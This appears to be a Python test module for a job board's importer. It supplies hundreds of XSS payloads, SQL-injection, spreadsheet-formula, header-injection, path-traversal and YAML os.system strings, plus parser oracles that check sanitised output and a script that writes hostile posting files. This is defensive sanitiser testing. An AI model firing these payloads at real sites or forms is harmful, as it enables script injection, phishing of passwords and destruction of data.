"""Postings that a stranger made to harm: what stands in them, files and a board full of them, and oracles that see it
where it comes through.

`python -m tests.hostile FOLDER` writes the files, for a board that is tried by hand.
"""

import re
import sys
from collections.abc import Iterable, Iterator
from html.parser import HTMLParser
from itertools import cycle
from pathlib import Path
from typing import NamedTuple
from urllib.parse import urlsplit

from hypothesis import strategies as st

from postings.importing import layout, writing

# --- What stands in them -----------------------------------------------------------------------------

# One payload or more of each family in which script, foreign content or deceit has come through Markdown before.
MARKDOWN_PAYLOADS = {
    "scheme javascript": "[oak](javascript:alert(1))",
    "scheme mixed case": "[oak](JaVaScRipT:alert(1))",
    "scheme vbscript": "[oak](vbscript:msgbox(1))",
    "scheme data html": "[oak](data:text/html,<script>alert(1)</script>)",
    "scheme data svg": "[oak](data:image/svg+xml;base64,PHN2Zy8+) ![oak](data:image/svg+xml,<svg/onload=alert(1)>)",
    "scheme data image": "[oak](data:image/png;base64,iVBORw0KGgo=)",
    "scheme file": "[oak](file:///etc/passwd)",
    "scheme of programs": "[a](intent://x#Intent;end) [b](ms-msdt:/id) [c](tel:1) [d](steam://run/1) [e](blob:x)",
    "decimal entity": "[oak](&#106;&#97;vascript:alert(1))",
    "hex entity": "[oak](&#x6A;avascript&colon;alert&lpar;1&rpar;)",
    "entity without semicolon": "[oak](&#106&#97vascript:alert(1)) [oak](&#0000106avascript:alert(1))",
    "tab entity": "[oak](java&Tab;script:alert(1))",
    "line end entity": "[oak](java&NewLine;script:alert(1)) [oak](&#10;javascript:alert(1))",
    "raw tab": "[oak](<java\tscript:alert(1)>) [oak](java\tscript:alert(1))",
    "percent tab": "[oak](java%09script:alert(1))",
    "raw line end": "[oak](java\nscript:alert(1)) [oak](<java\nscript:alert(1)>)",
    "leading control": "[oak](\x01javascript:alert(1)) [oak](&#1;javascript:alert(1)) [oak](\x1fjavascript:alert(1))",
    "NUL": "[oak](java\0script:alert(1)) [oak](java&#0;script:alert(1))",
    "invisible blanks": "[oak](\u00a0javascript:alert(1)) [oak](java\u200bscript:alert(1))",
    "percent-encoded": "[oak](%6aavascript:alert(1)) [oak](javascript%3aalert(1))",
    "full-width": "[oak](ｊａｖａｓｃｒｉｐｔ：alert(1)) [oak](javascript：alert(1))",
    "backslashes": r"[oak](\\evil.example) [oak](https://evil.example\@good.example) [oak](https:\\evil.example)",
    "pointed address": "[oak](<javascript:alert(1)>)",
    "pointed address over two lines": "[oak](<javascript:\nalert(1)>)",
    "autolink": "<javascript:alert(1)> <JAVASCRIPT:alert(1)>",
    "autolink with entity": "<javascript&colon;alert(1)> <&#106;avascript:alert(1)>",
    "autolink data": "<data:text/html,<script>alert(1)</script>>",
    "bare address with quote": 'https://evil.example/"onmouseover="alert(1) www.evil.example"x=',
    "reference": "[oak]\n\n[oak]: javascript:alert(1)",
    "reference title": "[oak][1]\n\n[1]: https://t.example '\"onmouseover=alert(1) x=\"'",
    "collapsed reference": "[oak][]\n\n[oak]: <javascript:alert(1)>",
    "case-folded reference": "[ẞ]\n\n[ss]: javascript:alert(1)",
    "image": "![oak](javascript:alert(1)) ![oak](https://evil.example/x.svg)",
    "image words": '![oak" onerror="alert(1)](x) ![<img src=x onerror=alert(1)>](x)',
    "image title": "![oak](x '\" onerror=\"alert(1)')",
    "link title": "[oak](https://t.example '\"><script>alert(1)</script>')",
    "tracking pixel": "![](https://evil.example/p.gif?who=1)",
    "image in link": "[![oak](x onerror=alert(1))](javascript:alert(1))",
    "link in link": "[a [b](javascript:alert(1)) c](javascript:alert(2)) [a <https://t.example> b](//evil.example)",
    "user name": "[oak](https://good.example@evil.example/) <https://a:b@evil.example/>",
    "protocol-relative": "[oak](//evil.example) [oak](///evil.example) [oak](https:evil.example)",
    "mail header": "[oak](mailto:a@t.example?bcc=b@evil.example) [oak](mailto:a@t.example%0abcc:b)",
    "split script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "fence info": '```js" onclick="alert(1)\noak\n```\n\n```<script>alert(1)</script>\noak\n```',
    "fence class": "```x class=btn-danger style=position:fixed\noak\n```\n\n~~~admin-button\noak\n~~~",
    "inline code": "`<script>alert(1)</script>` ``<img src=x onerror=alert(1)>``",
    "table cell": "| <script>alert(1)</script> | [b](javascript:a) |\n|---|---|\n| <img src=x onerror=alert(1)> | c |",
    "table alignment": '| a |\n|:-:" onclick="alert(1)|\n\n| a |\n|:-:|\n| b |',
    "footnote": "oak[^1]\n\n[^1]: <script>alert(1)</script> [x](javascript:alert(1))",
    "heading attributes": "## oak {#login .btn onclick=alert(1)}",
    "attribute list": "oak\n{: onclick=alert(1) style=position:fixed #id }\n\n[oak](https://t.example){onclick=alert(1)}",
    "task list": "- [ ] <input type=checkbox onclick=alert(1)>\n- [x] oak",
    "abbreviation": '*[oak]: "><script>alert(1)</script>\n\noak',
    "front matter": "---\n!!python/object/apply:os.system ['true']\n---\noak",
    "heading ids": "## csrfmiddlewaretoken\n\n## __proto__\n\n## body",
    "Django template": "{% load static %}{{ settings.ADMINS }}{% csrf_token %}{# oak #}",
    "other templates": "${7*7} <%= 7*7 %> #{7*7} {{7*7}} %s %(x)s {0.__class__} [[7*7]]",
    "bidi": "oak\u202egnp.exe\u2066 [oak](https://t.example/\u202egpj.exe)",
    "homoglyphs": "[раураl](https://раураl.example) аdmin",
    "zero width": "jav\u200bascript:\u2060\U000e0061 o\u200dak",
    "zalgo": "o" + "\u0300\u0316\u0334" * 300 + "ak",
    "controls": "o\0a\x01k\x1b[31m\x85\x9b oak [oak](https://t.example/\x1b\x07)",
    "odd line ends": "oak\rash\x0b\x0celm\u2028[x](javascript:alert(1))\u2029\x85<script>alert(1)</script>",
    "non-characters": "oak\ufffe\uffff\ufdd0 [oak](https://t.example/\uffff)",
    "large start": "1234567890. oak\n\n999999999. elm",
}
HTML_PAYLOADS = {
    "script": "<script>alert(1)</script><script src=https://evil.example/x.js></script>",
    "odd case and attributes": '<ScRiPt/x="y" src=//evil.example>alert(1)</sCrIpT\n>',
    "unclosed": "<script>alert(1)//",
    "img onerror": "<img src=x onerror=alert(1)>",
    "slashes": "<img/src=x/onerror=alert(1)><svg/onload=alert(1)>",
    "back-tick": "<img src=`x`onerror=alert(1)>",
    "srcset": '<img srcset="https://evil.example/p 1x"><picture><source srcset=//evil.example></picture>',
    "svg onload": "<svg onload=alert(1)>",
    "svg script": "<svg><script>alert&#40;1)</script></svg>",
    "svg animate": "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=9>oak</text></a></svg>",
    "svg use": '<svg><use href="data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x"/></svg>',
    "foreignObject": "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "math": '<math href="javascript:alert(1)">oak</math>',
    "maction": '<math><maction actiontype="statusline#//x.example" xlink:href="javascript:a()">oak</maction></math>',
    "style mutation": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;svg onload=a()&gt;\">",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "mglyph": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "form nesting": "<form><form><input name=a></form><input formaction=javascript:alert(1)>",
    "textarea": '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
    "xmp and title": '<xmp><p title="</xmp><img src=x onerror=alert(1)>"><title><a id="</title><svg onload=alert(1)>">',
    "template": "<template><script>alert(1)</script></template><p><template shadowrootmode=open><slot></template>",
    "select": "<select><template><style><!--</style><a rel=\"--></style></template></select><svg onload=a()>\">",
    "plaintext": "<plaintext><script>alert(1)</script>",
    "CDATA": "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg><![CDATA[oak]]>",
    "short comment": "<!--><img src=x onerror=alert(1)>-->",
    "odd comment end": "<!-- --!><img src=x onerror=alert(1)> -->",
    "declarations": '<?xml-stylesheet href="javascript:alert(1)"?><!DOCTYPE a [<!ENTITY x "y">]><!ELEMENT a ANY>',
    "overlay": '<a style="position:fixed;inset:0;opacity:0" href="https://evil.example">oak</a>',
    "style": "<style>@import url(//evil.example/x.css);body{display:none}</style>",
    "expression": '<p style="width:expression(alert(1));background:url(javascript:alert(1))">oak</p>',
    "link": '<link rel=stylesheet href=//evil.example/x.css><link rel="prefetch" href=//evil.example>',
    "iframe": "<iframe src=https://evil.example></iframe><frameset><frame src=//evil.example></frameset>",
    "srcdoc": "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "plug-ins": "<object data=//evil.example></object><embed src=//evil.example><applet code=x></applet><portal src=x>",
    "form": "<form action=https://evil.example><input name=password type=password><button>Log in</button></form>",
    "button": "<button form=apply formaction=//evil.example>Apply</button>",
    "isindex": "<isindex action=javascript:alert(1) type=image><keygen autofocus onfocus=alert(1)>",
    "meta refresh": '<meta http-equiv=refresh content="0;url=//evil.example"><meta http-equiv=Set-Cookie content=a>',
    "base": "<base href=https://evil.example/>",
    "body": "<body onload=alert(1) background=//evil.example/x.png>",
    "details": "<details open ontoggle=alert(1)><summary>oak</summary></details>",
    "media": "<video src=x onerror=alert(1) poster=//evil.example></video><audio src=//evil.example onloadstart=a()>",
    "marquee": "<marquee onstart=alert(1)>oak</marquee><input autofocus onfocus=alert(1)><p tabindex=1 onfocus=a()>",
    "custom element": "<x-oak onclick=alert(1)>oak</x-oak><oak is=button onpointerover=alert(1)>",
    "popover": "<button popovertarget=x>oak</button><div popover id=x onbeforetoggle=alert(1)>oak</div>",
    "target": '<a href="https://evil.example" target=_blank>oak</a>',
    "rel and ping": '<a href="https://t.example" rel="opener me" ping="https://evil.example" download>oak</a>',
    "ids and names": '<a id=defaultView name=cookie href="https://t.example">oak</a><p id=csrfmiddlewaretoken>oak</p>',
    "classes": '<p class="btn btn-danger">oak</p><a class="button" href="https://t.example">oak</a>',
    "roles": '<p role=alert aria-label="You are logged out">oak</p>',
    "hidden text": '<p hidden>oak</p><font size=0 color=white>oak</font><p style="display:none">oak</p>',
    "way out of the page": "</section></main></body></html><h1>Log in</h1><div>oak</div>",
    "data attributes": '<p data-total="0" hx-get=//evil.example x-data="alert(1)" v-on:click=x @click=x>oak</p>',
    "href tricks": '<a href="java&#x09;script:a()">a</a><a href=" javascript:a()">b</a><a href="//evil.example">c</a>',
    "link namespace": '<a xlink:href="javascript:alert(1)" xmlns:xlink="x">oak</a>',
    "start": '<ol start="1 onclick=alert(1)"><li value=9>oak</li></ol><ol start=-9999999999><li>oak</ol>',
}  # fmt: skip
PAYLOADS = {**MARKDOWN_PAYLOADS, **HTML_PAYLOADS}

# What breaks out of a line: of an attribute, a script, a header, a cell, a template.
LINE_PAYLOADS = {
    "double quote": '"><svg onload=alert(1)>" onmouseover="alert(1)',
    "single quote": "'><svg onload=alert(1)>' autofocus onfocus='alert(1)",
    "end of a script": "</script><script>alert(1)</script></ScRiPt ><svg onload=alert(1)>",
    "start of a comment": "<!--<script>--!><img src=x onerror=alert(1)>",
    "end of a part": "]]></title></textarea></style></noscript><iframe src=//evil.example></iframe>",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &amp;quot; &#60;b&#62; &colon;",
    "line separators": "a\u2028b\u2029c\x85d\x0be\x0cf",
    "header": "a%0d%0aSet-Cookie:%20oak=1 \\r\\nX-Oak: 1",
    "templates": "{{ 7*7 }}{% debug %}{# oak #} ${7*7} <%= 7*7 %> %s %(x)s {0.__class__}",
    "formula": '=HYPERLINK("https://evil.example","oak")',
    "formula with a sign": "+1+cmd|' /C calc'!A0",
    "formula in full width": "＝1+1 ＠SUM(1,1)",
    "formula behind a mark": "\ufeff=1+1\t=1+1",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "markdown": "[oak](javascript:alert(1)) ![oak](//evil.example/p.gif) <javascript:alert(1)> `oak` # oak",
    "query": "' OR 1=1--; DROP TABLE postings_posting; \\",
    "json": '","apply_url":"javascript:alert(1)","x":{"$ref":"#"},"\\u0022',
    "path": "../../etc/passwd ..\\..\\con",
    "bidi": "oak\u202egnp.exe\u2066\u2069\u200f",
    "zalgo": "o" + "\u0300\u0316\u0334" * 20 + "ak",
}

_PIECES = st.sampled_from(
    [
        *PAYLOADS.values(),
        "\n", "\n\n", "<", ">", '"', "'", "`", "```", "[", "]", "(", ")", "](", "![", "<!--", "-->", "#", "|", "|-|",
        "- ", "1. ", "> ", "*", "**", "~~", "&", "&#", ";", ":", "//", "\\", "\t",
        "javascript:", "https://", "mailto:", "@", "=", "on", "src", "href", "</p>", "<svg>", "<style>", "\0", "\u2028",
        "a\n===\n", "    - a\n", "[a]: ", "data:",
    ]
)  # fmt: skip


def splices() -> st.SearchStrategy[str]:
    """Pieces of payloads in any order."""
    return st.lists(_PIECES, max_size=12).map("".join)


# --- Oracles -----------------------------------------------------------------------------------------

_TAGS = {
    "p", "br", "hr", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "blockquote", "pre", "code", "em", "strong", "s",
    "a", "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip
_ATTRIBUTES = {("a", "href"), ("a", "title"), ("a", "rel"), ("ol", "start")}


class _Oracle(HTMLParser):
    """Reads HTML with another parser than the sanitiser's, and notes all that is not plain text with plain links."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.dangers = []

    def handle_starttag(self, tag, attrs):
        if tag not in _TAGS:
            self.dangers.append(f"<{tag}>")
        self.dangers += [f"{tag} {name}" for name, _ in attrs if (tag, name) not in _ATTRIBUTES]
        found = dict(attrs)
        if tag == "a" and found.get("rel") != "nofollow noopener ugc":
            self.dangers.append("link without rel")
        if "href" in found:
            self.check(found["href"] or "")
        if "start" in found and not re.fullmatch(r"[0-9]{1,9}", found["start"] or ""):
            self.dangers.append("start")

    def check(self, href):
        parts = urlsplit(href)
        if re.search(r"[\x00-\x20\x7f-\xa0\\\u2028\u2029\u202a-\u202e]", href):
            self.dangers.append(f"href with hidden characters {href!r}")
        elif parts.scheme in ("http", "https"):
            if not parts.netloc or "@" in parts.netloc:
                self.dangers.append(f"href {href!r}")
        elif parts.scheme != "mailto" or parts.query or "@" not in parts.path:
            self.dangers.append(f"href {href!r}")

    def handle_comment(self, data):
        self.dangers.append("comment")

    def handle_decl(self, decl):
        self.dangers.append("declaration")

    def handle_pi(self, data):
        self.dangers.append("processing instruction")

    def unknown_decl(self, data):
        self.dangers.append("CDATA")


def dangers(html):
    oracle = _Oracle()
    oracle.feed(html)
    oracle.close()
    return oracle.dangers


class Element(NamedTuple):
    tag: str
    attributes: frozenset[str]


class Page(HTMLParser):
    """What a page of the board is made of, its texts apart: so that a hostile one can be held to a harmless one."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: set[Element] = set()
        self.addresses: set[str] = set()  # wherever something leads or is fetched from
        self.scripts: list[str] = []  # what stands in them
        self.texts: list[str] = []
        self.odd: list[str] = []  # what no page of the board has
        self._script: str | None = None
        self.feed(html)
        self.close()

    @property
    def text(self) -> str:
        return one_line(" ".join(self.texts))

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.add(Element(tag, frozenset(name for name, _ in attrs)))
        names = [name for name, _ in attrs]
        if len(names) != len(set(names)):
            self.odd.append(f"<{tag}> has an attribute twice")
        self.addresses |= {value or "" for name, value in attrs if name in _LEADING}
        if tag == "script":
            self._script = ""

    def handle_data(self, data: str) -> None:
        if self._script is None:
            self.texts.append(data)
        else:
            self._script += data

    def handle_endtag(self, tag: str) -> None:
        if tag == "script" and self._script is not None:
            self.scripts.append(self._script)
            self._script = None

    def handle_comment(self, data: str) -> None:
        self.odd.append(f"<!--{data}-->")

    def handle_pi(self, data: str) -> None:
        self.odd.append(f"<?{data}>")

    def handle_decl(self, decl: str) -> None:
        if decl.lower() != "doctype html":
            self.odd.append(f"<!{decl}>")

    def unknown_decl(self, data: str) -> None:
        self.odd.append(f"<![{data}")


_LEADING = {
    "href",
    "src",
    "action",
    "formaction",
    "srcset",
    "data",
    "poster",
    "cite",
    "background",
    "ping",
    "xlink:href",
}


def one_line(text: str) -> str:
    return " ".join(text.split())


# --- Files and boards --------------------------------------------------------------------------------

HOST = "https://jobs.astwerk.example/apply/"
# What every posting of a board says besides, so that all kinds of facts are read from it, with words around them that
# become their evidence.
_FACTS = "Remote in Austria. Full-time. Senior. We sponsor visas. $90,000 - $120,000 a year. You write Python."
# All that a body may have, for the harmless board.
_EVERYTHING = """# Trees

**Bold words:**

- oak
    - *elm*

7. ash

> quoted ~~struck~~ `code`

| a | b |
|---|---|
| c | [d](https://t.example "a title") |

```
a fence
```

***

## Under it

### And further

#### And further

##### And further

One line\\
another <https://t.example>"""


class Part(NamedTuple):
    """What one posting of a board says in every line, and in its body."""

    line: str
    body: str


def hostile_parts() -> Iterator[Part]:
    """As many payloads as fit into a title for each posting, and as many for its body."""
    lines = cycle(_joined([*LINE_PAYLOADS.values(), *PAYLOADS.values()], " ", 240))
    bodies = list(_joined(PAYLOADS.values(), "\n\n", 1000))
    first_round = len(list(_joined([*LINE_PAYLOADS.values(), *PAYLOADS.values()], " ", 240)))
    for number in range(max(first_round, len(bodies))):
        yield Part(next(lines), bodies[number % len(bodies)])


def harmless_parts() -> Iterator[Part]:
    """As many; some with more places than a row shows."""
    for number, _ in enumerate(hostile_parts()):
        places = "" if number % 5 else "; Graz; Linz; Wels; Steyr; Krems; Enns; Melk"
        yield Part(f"Trees number {number}{places}", _EVERYTHING)


def _joined(payloads: Iterable[str], between: str, longest: int) -> Iterator[str]:
    """Payloads one behind the other, never cut unless one alone is too long."""
    joined = ""
    for payload in payloads:
        if joined and len(joined) + len(between) + len(payload) > longest:
            yield joined
            joined = ""
        joined = f"{joined}{between}{payload}" if joined else payload[:longest]
    yield joined


def write_files(folder: Path, parts: Iterable[Part]) -> int:
    """A posting's file for each part, every field of which says it, where an import looks for category and month."""
    number = 0
    for number, part in enumerate(parts, 1):
        # As raw as a file can be: only a line end would end the line, and a link the title.
        line = re.sub(r"[\r\n]", " ", part.line)
        posting = layout.Layout(
            title=line,
            company=f"{line[:180]} C",
            apply_url=f"{HOST}hostile-{number}",
            slug=f"hostile-{number}",
            place=f"Remote, Austria; {line}",
            salary_text=f"$90,000 - $120,000 {line}",
            other_tags=[line, f"❤️ {line}"],
            body=f"{part.body}\n\n{line} {_FACTS} {line}\n\nMention the word PIPPIN{number} when you apply.",
        )
        category = writing.part(layout.tidy(line).strip()[:40]) or "-"
        place = folder / category / "2025-01" / f"hostile-{number}" / writing.FILE_NAME
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_bytes(writing.write(posting).encode())
    return number


if __name__ == "__main__":
    top = Path(sys.argv[1])
    print(f"{write_files(top, hostile_parts())} postings in {top}, and two that are refused")
    for name in ("<svg onload=alert(1)>.md", "\x1b[31m'\"><img src=x onerror=alert(1)>.md"):
        (top / name).write_text("no posting")
